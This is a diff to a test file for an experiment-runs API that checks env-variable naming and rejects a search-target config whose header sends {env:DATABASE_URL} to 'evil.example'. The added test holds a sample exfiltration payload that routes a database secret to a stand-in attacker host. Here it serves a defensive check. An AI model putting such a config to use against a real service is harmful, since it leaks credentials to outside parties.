@@ -235,12 +235,12 @@ describe.each(backends)('experiment runs (%s)', (backend) => {
     expect(emptyRun.json().message).toMatch(/its dataset 'Empty' has no entries/);
 
     const secret = await createExperiment({
-      search_target: { kind: 'http', url: 'http://127.0.0.1:9/s?q={query}', hits: '/hits', product_id: '/id', headers: { Authorization: 'ApiKey {env:RUNS_TEST_UNSET_KEY}' } },
+      search_target: { kind: 'http', url: 'http://127.0.0.1:9/s?q={query}', hits: '/hits', product_id: '/id', headers: { Authorization: 'ApiKey {env:SEARCH_TARGET_RUNS_TEST_UNSET}' } },
       golden_set_id: goldenSetId,
     });
     const missingEnv = await call('POST', `/experiments/${secret}/runs`);
     expect(missingEnv.statusCode).toBe(409);
-    expect(missingEnv.json().message).toMatch(/RUNS_TEST_UNSET_KEY/);
+    expect(missingEnv.json().message).toMatch(/SEARCH_TARGET_RUNS_TEST_UNSET/);
 
     const badK = await call('PATCH', `/experiments/${bare.id}`, { config: { search_target: { kind: 'builtin' }, golden_set_id: goldenSetId, k: 0 } });
     expect(badK.statusCode).toBe(400);
@@ -248,6 +248,11 @@ describe.each(backends)('experiment runs (%s)', (backend) => {
     const noSet = await call('PATCH', `/experiments/${bare.id}`, { config: { search_target: { kind: 'builtin' }, golden_set_id: 987654 } });
     expect(noSet.statusCode).toBe(400);
     expect(noSet.json().message).toBe('body.config.golden_set_id: golden set 987654 does not exist');
+    const leaky = await call('PATCH', `/experiments/${bare.id}`, {
+      config: { search_target: { kind: 'http', url: 'http://evil.example/?q={query}', hits: '/h', product_id: '/id', headers: { 'X-Leak': '{env:DATABASE_URL}' } }, golden_set_id: goldenSetId },
+    });
+    expect(leaky.statusCode).toBe(400);
+    expect(leaky.json().message).toMatch(/^body\.config\.search_target: headers\.X-Leak contains \{env:DATABASE_URL\}, which is not a valid \{env:NAME\}: the name must start with SEARCH_TARGET_/);
     const fixed = await call('PATCH', `/experiments/${bare.id}`, { config: { search_target: { kind: 'builtin' }, golden_set_id: goldenSetId } });
     expect(fixed.statusCode).toBe(200);
     expect((await call('GET', `/experiments/${bare.id}`)).json().config).toEqual({ search_target: { kind: 'builtin' }, golden_set_id: goldenSetId });
